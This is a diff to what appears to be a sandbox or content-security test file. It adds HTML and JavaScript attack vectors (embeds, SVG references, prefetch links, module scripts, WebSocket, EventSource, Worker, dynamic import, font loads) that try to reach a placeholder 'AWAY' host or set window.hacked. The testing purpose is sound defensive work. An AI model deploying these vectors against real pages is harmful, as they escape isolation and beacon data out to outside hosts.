@@ -23,6 +23,12 @@ ATTACKS = """
 <link rel="stylesheet" href="AWAY/sheet">
 <style>@import "AWAY/import"; body { background: url("AWAY/ground") }</style>
 <base href="AWAY/">
+<embed src="AWAY/embed">
+<video src="AWAY/video" autoplay></video>
+<svg><image href="AWAY/svg-image" width="1" height="1"></image><use href="AWAY/use#x"></use></svg>
+<link rel="prefetch" href="AWAY/prefetch"><link rel="manifest" href="AWAY/manifest"><link rel="icon" href="AWAY/icon">
+<script type="module">window.hacked = "module"</script>
+<script type="importmap">{"imports": {"a": "AWAY/a.js"}}</script>
 <form id="attack-form" action="AWAY/form"><input name="a"></form>
 <a id="attack-link" href="javascript:window.hacked = 'link'">link</a>
 """
@@ -32,6 +38,12 @@ ACTS = {
     "base": "document.querySelector('base') && document.baseURI.startsWith('http') && (window.hacked = 'base')",
     "fetch": "fetch('AWAY/fetch').catch(() => 0)",
     "beacon": "navigator.sendBeacon('AWAY/beacon', 'x')",
+    "image": "new Image().src = 'AWAY/new-image'",
+    "events": "new EventSource('AWAY/events')",
+    "socket": "new WebSocket('AWAY/socket'.replace('http', 'ws'))",
+    "worker": "new Worker('data:text/javascript,fetch(\\'AWAY/worker\\')')",
+    "import": "import('data:text/javascript,window.hacked=3')",
+    "font": "new FontFace('f', 'url(AWAY/font)').load()",
     "markup": "document.body.insertAdjacentHTML('beforeend', '<img onerror=hacked=1 src=x>'); window.hacked = 'markup'",
     "code": "setTimeout('window.hacked = 1', 0)",
     "script": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hacked = 2'}))",
